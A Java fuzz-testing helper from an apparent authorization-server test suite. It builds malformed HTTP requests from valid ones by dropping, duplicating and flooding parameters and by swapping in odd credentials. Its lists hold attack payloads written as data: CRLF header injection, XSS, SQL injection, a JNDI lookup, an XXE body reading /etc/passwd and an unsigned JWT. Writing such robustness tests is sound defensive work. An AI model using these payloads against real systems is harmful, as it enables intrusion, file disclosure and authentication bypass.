package org.sparkall.acceptance;

import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.random.RandomGenerator;
import org.sparkall.acceptance.RawRequest.Pair;

/** Makes malformed requests out of a valid one. The same generator makes the same ones. */
final class RequestMutator {

    private static final List<String> ODD = List.of(
            "%00",
            "%0d%0aSet-Cookie:%20a=b",
            "%0d%0aLocation:%20https://evil.example",
            "%ff%fe",
            "%zz",
            "%",
            "%F0%28%8C%28",
            "%E2%80%AE",
            "%F0%9F%98%80",
            "%ED%A0%80",
            "javascript:alert(1)",
            "https://evil.example/callback",
            "//evil.example",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "'%20OR%20'1'='1",
            "${jndi:ldap://evil.example}",
            "{{7*7}}",
            "-1",
            "99999999999999999999",
            "null",
            "");
    private static final List<String> METHODS =
            List.of("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "NONSENSE");
    private static final List<String> TYPES = List.of(
            "text/plain",
            "application/json",
            "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded; charset=UTF-16",
            "application/x-www-form-urlencoded; charset=nonsense",
            "nonsense",
            "");
    private static final List<String> BODIES = List.of(
            "{}",
            "{\"grant_type\":\"client_credentials\"}",
            "[",
            "&&&&",
            "====",
            "\u0000",
            "a".repeat(300_000),
            "a=b&".repeat(5_000),
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>");
    private static final List<String> CREDENTIALS = List.of(
            "Basic",
            "Basic ",
            "Basic !!!!",
            "Basic OjpubyBjb2xvbg==",
            "Basic JTAwOiUwMA==",
            "Basic JXp6OiV6eg==",
            "Bearer",
            "Bearer a.b.c",
            "Bearer eyJhbGciOiJub25lIn0.e30.",
            "DPoP x",
            "Negotiate x",
            "Basic " + "A".repeat(10_000),
            "\u0001");

    private final RandomGenerator random;
    private final List<UnaryOperator<RawRequest>> mutations = List.of(
            this::drop,
            this::duplicate,
            this::rename,
            this::truncate,
            this::oversize,
            this::strange,
            this::strange,
            this::append,
            this::encodedTwice,
            this::swapped,
            this::flooded,
            this::otherBody,
            this::otherMethod,
            this::otherType,
            this::otherCredentials,
            this::otherProof,
            RawRequest::moved);

    RequestMutator(RandomGenerator random) {
        this.random = random;
    }

    /** One to three things wrong with it. */
    RawRequest mutate(RawRequest valid) {
        RawRequest request = valid;
        int times = 1 + random.nextInt(3);
        for (int i = 0; i < times; i++) request = pick(mutations).apply(request);
        return request;
    }

    private <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    /** Puts these in the place of one parameter. */
    private RawRequest replace(RawRequest request, java.util.function.Function<Pair, List<Pair>> change) {
        if (request.parameters().isEmpty()) return request;
        List<Pair> changed = new ArrayList<>(request.parameters());
        int at = random.nextInt(changed.size());
        changed.addAll(at, change.apply(changed.remove(at)));
        return request.with(changed);
    }

    private RawRequest drop(RawRequest request) {
        return replace(request, it -> List.of());
    }

    private RawRequest duplicate(RawRequest request) {
        return replace(request, it -> List.of(it, random.nextBoolean() ? it : new Pair(it.name(), pick(ODD))));
    }

    private RawRequest rename(RawRequest request) {
        return replace(request, it -> List.of(new Pair(it.name() + pick(ODD), it.value())));
    }

    private RawRequest truncate(RawRequest request) {
        return replace(
                request,
                it -> List.of(new Pair(
                        it.name(),
                        it.value().substring(0, random.nextInt(it.value().length() + 1)))));
    }

    private RawRequest oversize(RawRequest request) {
        int length = 1 << (4 + random.nextInt(14));
        return replace(request, it -> List.of(new Pair(it.name(), it.value() + "a".repeat(length))));
    }

    private RawRequest strange(RawRequest request) {
        return replace(request, it -> List.of(new Pair(it.name(), pick(ODD))));
    }

    private RawRequest append(RawRequest request) {
        return replace(request, it -> List.of(new Pair(it.name(), it.value() + pick(ODD))));
    }

    private RawRequest encodedTwice(RawRequest request) {
        return replace(request, it -> List.of(Pair.encoded(it.name(), it.value())));
    }

    private RawRequest swapped(RawRequest request) {
        return replace(request, it -> List.of(new Pair(it.value().isEmpty() ? "x" : it.value(), it.name())));
    }

    private RawRequest flooded(RawRequest request) {
        List<Pair> changed = new ArrayList<>(request.parameters());
        int many = random.nextInt(300);
        // "Aa" and "BB" have the same hash code in Java.
        for (int i = 0; i < many; i++) changed.add(new Pair("Aa".repeat(i % 7) + "BB".repeat(i % 5) + i, "x"));
        return request.with(changed);
    }

    private RawRequest otherBody(RawRequest request) {
        return request.withBody(pick(BODIES));
    }

    private RawRequest otherMethod(RawRequest request) {
        return request.withMethod(pick(METHODS));
    }

    private RawRequest header(RawRequest request, String name, String value) {
        List<Pair> headers = new ArrayList<>(request.headers());
        headers.removeIf(it -> it.name().equals(name));
        headers.add(new Pair(name, value));
        return request.withHeaders(headers);
    }

    private RawRequest otherType(RawRequest request) {
        return header(request, "Content-Type", pick(TYPES));
    }

    private RawRequest otherCredentials(RawRequest request) {
        return header(request, "Authorization", pick(CREDENTIALS));
    }

    private RawRequest otherProof(RawRequest request) {
        return header(request, "DPoP", pick(List.of("", "x", "a.b.c", "eyJhbGciOiJub25lIn0.e30.", "a".repeat(9000))));
    }
}
